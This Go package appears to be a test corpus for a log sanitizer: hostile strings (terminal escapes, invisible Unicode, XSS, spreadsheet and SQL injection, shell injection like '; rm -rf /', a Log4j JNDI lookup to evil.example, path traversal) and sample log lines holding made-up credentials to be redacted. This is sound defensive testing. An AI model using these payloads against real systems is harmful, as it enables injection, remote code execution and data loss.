// Package hostile is the corpus of strings that attackers put into logs. Every
// output is tested against it: what is shown must stay text.
package hostile

import (
	"fmt"
	"unicode"
	"unicode/utf8"
)

// Strings are fields that try to be more than text.
func Strings() []string {
	return []string{
		// Terminals: C0, ESC sequences, C1, DEL.
		"\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\", "\x1b[6n",
		"\x1bP$q\"p\x1b\\", "\u009b31m", "\u009d0;owned\u009c", "\x9b31m", "a\x00b", "a\bb\b\b", "over\rwritten", "line\nbreak", "crlf\r\nSet-Cookie: a=b",
		"tab\tcolumn", "\x7f", "\v\f\a", "\u0085next line", "\u2028line\u2029paragraph",
		// Reading order, and what cannot be seen.
		"user\u202etxt.exe", "\u2066isolate\u2069", "\u061carabic mark", "zero\u200bwidth\u200c\u200d", "\ufeffbom", "soft\u00adhyphen", "\u2060joiner",
		"tag\U000e0041s", "\u3164filler", "\u115f\u1160", "\u00a0nbsp", "\ufe0fvariation", "\u034fjoiner", "\ufffe", "e\u0301\u0301\u0301\u0301",
		// Bytes that are no UTF-8.
		"\xff\xfe", "caf\xe9", "\xc3", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xc0\xaf", "ok\xf0\x9f\x92",
		// Markup.
		"<script>alert(1)</script>", "</script><svg onload=alert(1)>", "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)", "javascript:alert(1)",
		"]]><x/>", "<!--", "{{constructor.constructor('alert(1)')()}}", "&lt;&#x3c;", "<style>@import'//evil.example'",
		"[click](https://evil.example)", "![](https://evil.example/pixel)", "`code`", "```\nfence\n```", "| a | b |", "# heading", "* item", "<https://evil.example>",
		"https://evil.example/autolink", "@everyone", "<!channel>", "<@U123456>", "~~*_strike_*~~", "\\`escaped\\`",
		// Spreadsheets.
		"=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=HYPERLINK(\"https://evil.example\",\"ok\")", "\"quoted\",cell", "a;b;c",
		// Rule files, queries, shells and the formats of reports.
		"\"; return 200; #", "'; DROP TABLE findings; --", "}\nserver { listen 80; }", "$(reboot)", "`reboot`", "; rm -rf /", "${jndi:ldap://evil.example/a}", "%s%n%x", "%0d%0aX: y",
		"a|b=c\\d|CEF:0", "[sd id=\"x\\\"]", "key: value\n- item", "!!python/object:x", "name = 'x' OR '1'='1'", "\\", "\"", "'", "\\\"", "\\u001b[31m", "\\x1b", "..\\..\\windows", "../../etc/passwd",
		"", " ", "   leading", "trailing   ", "null", "true", "-0", "1e999", "NaN",
	}
}

// Secret is a line of a log with a credential in it, and the clear text that
// must be in no output.
type Secret struct{ Line, Clear string }

// Secrets are credentials the way logs hold them. All are made up.
func Secrets() []Secret {
	const (
		password = "Tr0ub4dor&3"
		word     = "hunter2hunter2"
		jwt      = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJlLW9mLXRoaXM"
	)
	return []Secret{
		{`Authorization: Bearer mF_9.B5f-4.1JqM`, "mF_9.B5f-4.1JqM"},
		{`authorization=Basic YWxpY2U6b3BlbnNlc2FtZQ==`, "YWxpY2U6b3BlbnNlc2FtZQ"},
		{`"GET / HTTP/1.1" 200 "Basic YWxpY2U6b3BlbnNlc2FtZQ=="`, "YWxpY2U6b3BlbnNlc2FtZQ"},
		{`{"headers":{"authorization":"Token 9944b09199c62bcf9418ad846dd0e4bb"}}`, "9944b09199c62bcf9418ad846dd0e4bb"},
		{`{"Authorization":["Bearer mF_9.B5f-4.1JqM"],"Accept":["*/*"]}`, "mF_9.B5f-4.1JqM"},
		{`{"name":"Authorization","value":"opaque-credential-77"}`, "opaque-credential-77"},
		{`["Host","api.example","Cookie","sid=s%3Aq1w2e3r4t5"]`, "q1w2e3r4t5"},
		{`Authorization: Digest username="alice", response="6629fae49393a05397450978507c4ef1"`, "6629fae49393a05397450978507c4ef1"},
		{`Proxy-Authorization: custom first-half second-half`, "second-half"},
		{`Cookie: theme=dark; sid=q1w2e3r4t5y6; lang=de`, "q1w2e3r4t5y6"},
		{`"Set-Cookie: PHPSESSID=a1b2c3d4e5f6; Path=/; HttpOnly"`, "a1b2c3d4e5f6"},
		{`GET /a;jsessionid=0A1B2C3D4E5F HTTP/1.1`, "0A1B2C3D4E5F"},
		{`GET /login?user=bob&password=` + word + `&x=1 HTTP/1.1`, word},
		{`GET /login?user=bob&pass%77ord=` + word + ` HTTP/1.1`, word},
		{`GET /login?user%5Bpassword%5D=` + word + `&x=1 HTTP/1.1`, word},
		{`GET /go?next=%2Flogin%3Fuser%3Dbob%26password%3D` + word + `%26x%3D1 HTTP/1.1`, word},
		{`GET /go?next=%252Flogin%253Fpasswd%253D` + word + ` HTTP/1.1`, word},
		{`GET /x?body=%7B%22password%22%3A%22` + word + `%22%7D HTTP/1.1`, word},
		{`"GET /x?access_token=ya-2f8a9c11d7 HTTP/1.1" 200`, "ya-2f8a9c11d7"},
		{`"GET /x?api_key=0f9e8d7c6b5a4938" 200`, "0f9e8d7c6b5a4938"},
		{`"GET /x?key=AbCdEf0123456789 HTTP/1.1" 200`, "AbCdEf0123456789"},
		{`GET /x?X-Amz-Credential=keyname%2F20261120&X-Amz-Signature=fe5f80f77d5fa3beca038a248ff027d0 HTTP/1.1`, "fe5f80f77d5fa3beca038a248ff027d0"},
		{`{"user":"bob","password":"` + password + `","remember":true}`, password},
		{`{"user":"bob","password" : "quote\"inside-it"}`, "inside-it"},
		{`{"user":"bob","password":"cut-short-he`, "cut-short-he"},
		{`{"pin": 948201, "user": "bob"}`, "948201"},
		{`{"msg":"body {\"user\":\"bob\",\"password\":\"` + password + `\"}"}`, password},
		{`{"msg":"{\"a\":\"{\\\"secret\\\":\\\"` + word + `\\\"}\"}"}`, word},
		{`{"path":"/login?user=bob\u0026password=` + word + `"}`, word},
		{`"{""password"":""` + word + `""}",200`, word},
		{`{'client_secret': '` + password + `'}`, password},
		{`level=warn password="two words here" user=bob`, "words here"},
		{`level=warn new_password='` + password + `' user=bob`, password},
		{`<user>bob</user><password>two words</password>`, "two words"},
		{`name="passwd"\r\n\r\n` + word + `\r\n--boundary`, word},
		{`token: 7e2a1c9b0d3f`, "7e2a1c9b0d3f"},
		{`X-Api-Key: 7e2a1c9b0d3f`, "7e2a1c9b0d3f"},
		{`{"credentials":{"id":"x","value":"deep]inside}it"},"ip":"192.0.2.1"}`, "inside}it"},
		{`GET /verify/` + jwt + ` HTTP/1.1`, "eyJzdWIiOiI0MiJ9"},
		{`GET /verify?t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIi`, "eyJzdWIi"},
		{`charge failed for ` + "sk_" + `live_4eC39HqLyjWDarjtT1zdp7dc today`, "4eC39HqLyjWDarjtT1zdp7dc"},
		{`found ak_live_7Gk2mP9x in the body`, "7Gk2mP9x"},
		{`git clone with ghp_16C7e42F292c6912E7710c838347Ae178B4a`, "16C7e42F292c6912E7710c838347Ae178B4a"},
		{`posting as xoxb-2314-17653672481-19874698323`, "17653672481"},
		{`{"accessKeyId":"AKIAIOSFODNN7EXAMPLE"}`, "IOSFODNN7EXAMPLE"},
		{`token glpat-zYxWvUtSrQpOnMlKjIhG leaked`, "zYxWvUtSrQpOnMlKjIhG"},
		{`GET https://alice:` + word + `@api.example/x HTTP/1.1`, word},
		{`dial redis://:` + word + `@10.0.0.3:6379`, word},
		{`-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----`, "MIIEpAIBAAKCAQEA"},
		{`pay with 4111111111111111 now`, "4111111111111111"},
		{`pay with 4111 1111 1111 1111 now`, "4111 1111 1111 1111"},
		{`{"pan":"5555-5555-5555-4444"}`, "5555-5555-5555-4444"},
		{`pay with 3782 822463 10005 now`, "822463 10005"},
	}
}

// Plain checks that s is text that can be shown anywhere: valid UTF-8 with no
// control character but the newline, nothing that changes the order of reading
// and nothing invisible.
func Plain(s string) error {
	for i, r := range s {
		if r == utf8.RuneError {
			if _, n := utf8.DecodeRuneInString(s[i:]); n == 1 {
				return fmt.Errorf("byte %d, %#x, is no UTF-8", i, s[i])
			}
		}
		if r != '\n' && (unicode.Is(unicode.C, r) || unicode.In(r, unicode.Zl, unicode.Zp)) {
			return fmt.Errorf("byte %d: %U in %.40q", i, r, s[i:])
		}
	}
	return nil
}
